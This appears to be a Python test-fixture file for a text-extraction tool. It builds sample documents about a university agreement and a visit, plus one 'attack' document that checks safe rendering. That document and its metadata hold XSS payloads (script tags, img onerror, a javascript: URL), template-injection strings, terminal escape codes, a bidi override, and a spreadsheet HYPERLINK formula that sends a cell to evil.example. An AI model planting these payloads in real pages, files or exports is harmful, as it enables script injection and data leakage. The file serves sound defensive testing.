"""Documents of a few sentences with all kinds of records, and one whose text attacks whatever shows it."""

from datetime import date
from typing import Any

from extractor.records import Document

STAMP = {"version": "0.1.0", "model": "by hand", "rules": "sha256:0000000000000000"}
SIGNING = (
    "Jena and Kyoto sign 🤝 up\n\n"
    "On 5 May 2021, the University of Jena (FSU) and Kyoto University signed a memorandum of understanding in Weimar. "
    "Prof. Walter Rosenthal, President of the University of Jena, signed for FSU; Mei Tanaka witnessed it.\n"
)
VISIT = "A delegation of Kyoto University visited Charité in March 2022. Rector Jana Nováková received it.\n"
ATTACK = (
    '<script>window.hacked = 1</script> "onmouseover="window.hacked = 2 \'"><img src=x onerror="window.hacked = 3"> University and '
    "=HYPERLINK(\"http://evil.example/?\"&A1) College signed a deal </script><script>window.hacked = 4</script>\x1b[31mred\x1b[0m "
    "\u202egnihton\u202c on 1 April 2020. {{ 7 * 7 }} ${alert(1)} & &lt;b&gt; \u2028 end.\n"
)  # fmt: skip


def document(doc_id: str, text: str, **records: Any) -> dict[str, Any]:
    """A document in its own form, checked. Mentions are written (label, entity, words) or (label, entity, words, nth)."""
    source = {"path": f"{doc_id}.txt", "title": None, **records.pop("source", {})}
    mentions = [_mention(n, text, *told) for n, told in enumerate(records.pop("mentions", ()), 1)]
    raw = {"doc_id": doc_id, "extractor": STAMP, "source": source, "text": text, "mentions": mentions, **records}
    return Document.model_validate(raw).model_dump(mode="json")


def _mention(number: int, text: str, label: str, entity: str | None, words: str, nth: int = 0) -> dict[str, Any]:
    return {"id": f"m{number}", "label": label, **quote(text, words, nth), "entity": entity, "rule": f"rule.{label}"}


def quote(text: str, words: str, nth: int = 0) -> dict[str, Any]:
    """Where words stand in a text, the nth time."""
    start = -1
    for _ in range(nth + 1):
        start = text.index(words, start + 1)
    return {"start": start, "end": start + len(words), "text": words}


def extent(text: str, words: str) -> dict[str, int]:
    """Where a passage stands."""
    return {key: value for key, value in quote(text, words).items() if key != "text"}


def signing(doc_id: str = "signing") -> dict[str, Any]:
    """Two universities sign; all kinds of records."""
    sentence = SIGNING.split("\n\n")[1].split(" Prof.")[0]
    return document(
        doc_id,
        SIGNING,
        source={"title": "Jena and Kyoto sign 🤝 up", "published": date(2021, 5, 6), "url": "https://news.example/jena?a=1&b=2", "publisher": "i1"},
        mentions=[
            ("date", "d1", "5 May 2021"),
            ("institution", "i1", "University of Jena"),
            ("institution", "i1", "FSU"),
            ("institution", "i2", "Kyoto University"),
            ("person", "p1", "Walter Rosenthal"),
            ("role", "r1", "President"),
            ("institution", "i1", "University of Jena", 1),
            ("institution", "i1", "FSU", 1),
            ("person", "p2", "Mei Tanaka"),
        ],
        institutions=[
            {"id": "i1", "name": "University of Jena", "aliases": ["FSU"], "kind": "university", "country": "DE", "confidence": 0.97},
            {"id": "i2", "name": "Kyoto University", "kind": "university", "country": "JP", "confidence": 0.95},
        ],
        people=[{"id": "p1", "name": "Walter Rosenthal", "honorific": "Prof.", "confidence": 0.96}, {"id": "p2", "name": "Mei Tanaka", "confidence": 0.6}],
        roles=[
            {"id": "r1", "title": "President", "rank": "president", "person": "p1", "institution": "i1", "mention": "m6",
             "evidence": extent(SIGNING, "Walter Rosenthal, President of the University of Jena"), "confidence": 0.93},
        ],
        dates=[{"id": "d1", "mention": "m1", "edtf": "2021-05-05", "start": "2021-05-05", "end": "2021-05-05", "grain": "day", "confidence": 0.99}],
        events=[
            {"id": "e1", "type": "agreement", "action": "signed", "instrument": "memorandum_of_understanding", "date": "d1", "place": "Weimar",
             "parties": ["i1", "i2"], "signatories": ["p1"], "witnesses": ["p2"], "trigger": quote(SIGNING, "signed a memorandum of understanding"),
             "evidence": extent(SIGNING, sentence), "rule": "agreement.sign", "confidence": 0.94, "cameo": "057", "plover": "SUPPORT",
             "arguments": [{"slot": "parties", "entity": "i1", **extent(SIGNING, "University of Jena"), "rule": "slot.subject"}]},
        ],
    )  # fmt: skip


def visit(doc_id: str = "visit") -> dict[str, Any]:
    """A visit with a month for its date, and a warning."""
    return document(
        doc_id,
        VISIT,
        source={"published": date(2022, 4, 1), "url": "javascript:alert(1)"},
        mentions=[("institution", "i1", "Kyoto University"), ("institution", "i2", "Charité"), ("date", "d1", "March 2022"), ("role", "r1", "Rector"), ("person", "p1", "Jana Nováková")],
        institutions=[
            {"id": "i1", "name": "Kyoto University", "kind": "university", "country": "JP", "confidence": 0.9},
            {"id": "i2", "name": "Charité", "kind": "hospital", "country": "DE", "confidence": 0.8},
        ],
        people=[{"id": "p1", "name": "Jana Nováková", "confidence": 0.9}],
        roles=[{"id": "r1", "title": "Rector", "rank": "president", "person": "p1", "institution": None, "mention": "m4", "evidence": extent(VISIT, "Rector Jana Nováková"), "confidence": 0.5}],
        dates=[{"id": "d1", "mention": "m3", "edtf": "2022-03", "start": "2022-03-01", "end": "2022-03-31", "grain": "month"}],
        events=[
            {"id": "e1", "type": "visit", "action": "held", "date": "d1", "visitors": ["i1"], "hosts": ["i2"], "receivers": ["p1"],
             "trigger": quote(VISIT, "visited"), "evidence": extent(VISIT, VISIT.split(" Rector")[0]), "rule": "visit.visit", "confidence": 0.71},
        ],
        warnings=["ambiguous: the rector's house is not told"],
    )  # fmt: skip


def attack(doc_id: str = '"><script>window.hacked = 5</script>') -> dict[str, Any]:
    """A text that would run, link or steer, wherever it is shown as more than text; its names do so too."""
    first, second = ATTACK.split(" University")[0] + " University", '=HYPERLINK("http://evil.example/?"&A1) College'
    return document(
        doc_id,
        ATTACK,
        source={"title": ATTACK[:150], "url": "https://evil.example/\"><script>window.hacked = 6</script>", "path": "<b>.txt"},
        mentions=[("institution", "i1", first), ("institution", "i2", second), ("date", "d1", "1 April 2020")],
        institutions=[{"id": "i1", "name": first, "kind": "university", "confidence": 0.4}, {"id": "i2", "name": second, "kind": "school", "confidence": 0.4}],
        dates=[{"id": "d1", "mention": "m3", "edtf": "2020-04-01", "start": "2020-04-01", "end": "2020-04-01", "grain": "day"}],
        events=[
            {"id": "e1", "type": "agreement", "action": "signed", "instrument": "contract", "date": "d1", "parties": ["i1", "i2"], "place": "<i>x</i>",
             "trigger": quote(ATTACK, "signed a deal </script>"), "evidence": extent(ATTACK, ATTACK.strip()), "rule": "agreement.<sign>", "confidence": 0.3},
        ],
        warnings=["ambiguous: <img src=x onerror='window.hacked = 7'>"],
    )  # fmt: skip
